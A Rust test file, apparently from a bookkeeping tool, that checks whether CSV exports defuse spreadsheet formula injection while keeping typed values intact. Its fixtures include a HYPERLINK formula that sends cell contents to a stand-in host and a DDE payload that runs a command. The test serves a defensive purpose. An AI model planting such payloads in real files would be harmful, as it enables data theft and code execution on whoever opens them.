//! Names that a spreadsheet would take for formulas.

use crate::files::Set;
use crate::firm::Shop;
use serde_json::json;

const NAMES: &[&str] = &[
    "=HYPERLINK(\"http://books.example/?\"&A1,\"open\")",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\r\nReturned",
    "\nNew line",
    "'Quoted",
    "''Twice, \"quoted\"",
    "Plain, with a comma\r\nand a second line",
    "Schindel- und Dachbau Größe ½ – Żółw",
];

#[test]
fn text_is_harmless_in_the_file_and_comes_back_as_typed() {
    let mut shop = Shop::new();
    for (index, name) in NAMES.iter().enumerate() {
        let vendor = shop.say(json!({"kind": "vendor", "name": name}));
        shop.say(
            json!({"kind": "bill", "date": "2026-03-09", "vendor": vendor.to_string(), "reference": name,
            "lines": [{"job": "26-001", "code": "shingle", "cost_kind": "material", "description": name,
                       "amount": format!("{}.00", index + 1)}]}),
        );
    }
    let last = shop.bill("2026-03-10", "26-001", "12.50", "0");
    shop.reverse(last, "=cmd|' /C calc'!A0");
    let done = shop.hand("2026-03", "books").unwrap();
    let set = Set::read(&done.folder);
    for column in ["party", "reference", "description"] {
        assert_eq!(set.column("cost_detail", column)[..NAMES.len()], *NAMES, "{column} is as it was typed");
    }
    for (file, bytes) in Set::bytes(&done.folder).iter().filter(|(file, _)| file.ends_with(".csv")) {
        let mut numbers = 0;
        for record in paperwork::csv::read(bytes).unwrap() {
            for cell in record {
                let is_number = cell.parse::<office::Decimal>().is_ok();
                numbers += usize::from(is_number && cell.starts_with('-'));
                let begins = cell.chars().next().unwrap_or('a');
                let dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'].contains(&begins);
                assert!(is_number || !dangerous, "{file}: {cell:?} could be taken for a formula");
            }
        }
        if file == "cost_detail.csv" {
            assert_eq!(numbers, 2, "amount and cost of the reversal stay numbers: -12.50");
        }
    }
}
